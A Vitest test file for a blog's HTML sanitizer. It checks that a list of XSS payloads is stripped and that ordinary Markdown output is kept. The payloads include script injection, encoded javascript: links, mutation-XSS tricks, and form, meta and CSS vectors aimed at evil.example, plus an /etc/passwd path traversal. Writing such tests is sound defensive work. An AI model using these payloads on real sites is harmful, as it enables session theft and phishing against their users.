// The sanitizer alone, on HTML as the Markdown renderer writes it: what can run goes, the rest stays.
import { describe, expect, it } from 'vitest';
import { needsSanitizing, sanitizeArticleHtml } from '../../src/site/sanitize.ts';

const EXECUTABLE = /<script|<iframe(?![^>]*src="https:\/\/(?:www\.youtube-nocookie\.com|player\.vimeo\.com|geo\.dailymotion\.com|www\.openstreetmap\.org)\/)|\son[a-z]+\s*=|javascript:|vbscript:|data:text|<object|<embed|<form|<input(?![^>]*type="checkbox"[^>]*disabled)|<style|<link|<meta|<base|<svg|<math|srcdoc|formaction/i;

describe('sanitizeArticleHtml', () => {
  it.each([
    '<script>alert(document.cookie)</script>',
    '<p>a <script>alert(1)</script> b</p>',
    '<img src="x" onerror="alert(1)" />',
    '<IMG SRC=x OnError=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="  JAVASCRIPT:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="carte"><button formaction="https://evil.example">ok</button></form>',
    '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<p style="background:url(https://evil.example/pixel)">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<img src="x" __ASTRO_IMAGE_="{&quot;src&quot;:&quot;https://evil.example/x.png&quot;,&quot;onerror&quot;:&quot;alert(1)&quot;}">',
  ])('%s', (hostile) => {
    const out = sanitizeArticleHtml(hostile);
    expect(out).not.toMatch(EXECUTABLE);
    expect(out).not.toContain('__ASTRO_IMAGE_');
  });

  it('keeps what Markdown, the components and writers produce', () => {
    const markdown = [
      '<h2 id="un-titre">Un titre</h2>',
      '<p>La <abbr title="Appellation">AOP</abbr>, <kbd>Ctrl</kbd>, H<sub>2</sub>O, 1<sup>er</sup>, <mark>nouveau</mark>.</p>',
      '<details><summary>Plus</summary><p>Texte</p></details>',
      '<figure><img src="/a.jpg" alt="Une brioche" /><figcaption>La brioche</figcaption></figure>',
      '<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" checked disabled /> faite</li></ul>',
      '<p>Une note<sup><a href="#user-content-fn-1" id="user-content-fnref-1" data-footnote-ref aria-describedby="footnote-label">1</a></sup></p>',
      '<table><thead><tr><th style="text-align:right">b</th></tr></thead></table>',
      '<pre class="language-js" data-language="js"><code class="language-js"><span class="token keyword">const</span></code></pre>',
      '<aside class="callout callout-tip"><p class="callout-title"><strong>Astuce</strong></p></aside>',
      '<figure class="embed embed-youtube"><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Vidéo" loading="lazy" referrerpolicy="strict-origin-when-cross-origin" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups" allow="fullscreen; picture-in-picture" allowfullscreen></iframe></figure>',
      '<p><a href="mailto:bonjour@boulangerie.example">écrire</a> <a href="tel:+33478000000">appeler</a> <a href="/carte/">la carte</a> <img src="data:image/png;base64,iVBORw0KGgo=" alt="" /></p>',
    ];
    for (const html of markdown) expect(sanitizeArticleHtml(html)).toBe(html);
  });

  it('keeps the image markers Astro wrote for the body’s own images, and only those', () => {
    const marker = (src: string) => `<img __ASTRO_IMAGE_="${JSON.stringify({ src, alt: 'Le fournil', index: 0 }).replace(/"/g, '&quot;')}">`;
    expect(sanitizeArticleHtml(marker('./images/fournil.jpg'), ['./images/fournil.jpg'])).toContain('__ASTRO_IMAGE_=');
    expect(sanitizeArticleHtml(marker('../../../../etc/passwd'), ['./images/fournil.jpg'])).not.toContain('__ASTRO_IMAGE_');
  });

  it('knows which bodies have their author\'s raw HTML (the blog\'s component tags are ours)', () => {
    expect(needsSanitizing('<Callout type="tip" title="a > b">\nTexte\n</Callout>\n\n<Embed src="https://youtu.be/dQw4w9WgXcQ" title="x" />')).toBe(false);
    expect(needsSanitizing('<Callout type="tip">\n<script>alert(1)</script>\n</Callout>')).toBe(true);
    expect(needsSanitizing('<Callout<script>alert(1)</script>')).toBe(true);
    expect(needsSanitizing('<Calloutx onclick="x">')).toBe(true);
    expect(needsSanitizing('<Callout title="<img src=x onerror=alert(1)>">\nx\n</Callout>')).toBe(true);
    expect(needsSanitizing('# Titre\n\nTexte et [lien](https://x.example).')).toBe(false);
    expect(needsSanitizing('Moins de 3 € < 5 €')).toBe(false);
    expect(needsSanitizing('a <abbr>b</abbr>')).toBe(true);
    expect(needsSanitizing('<!-- c -->')).toBe(true);
    expect(needsSanitizing('</p>')).toBe(true);
  });
});
